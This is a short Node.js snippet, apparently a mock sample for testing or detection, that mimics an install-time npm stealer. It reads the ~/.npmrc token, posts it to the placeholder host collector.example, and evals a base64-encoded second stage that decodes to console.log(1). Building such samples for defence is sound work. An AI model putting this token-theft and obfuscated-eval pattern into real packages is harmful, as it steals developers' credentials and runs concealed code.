// Shaped like real install-time stealers: read the npm token, post it, run a decoded second stage.
const fs = require('fs');
const https = require('https');
const os = require('os');
const token = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
const req = https.request({ hostname: 'collector.example', method: 'POST', path: '/t' });
req.end(token);
eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
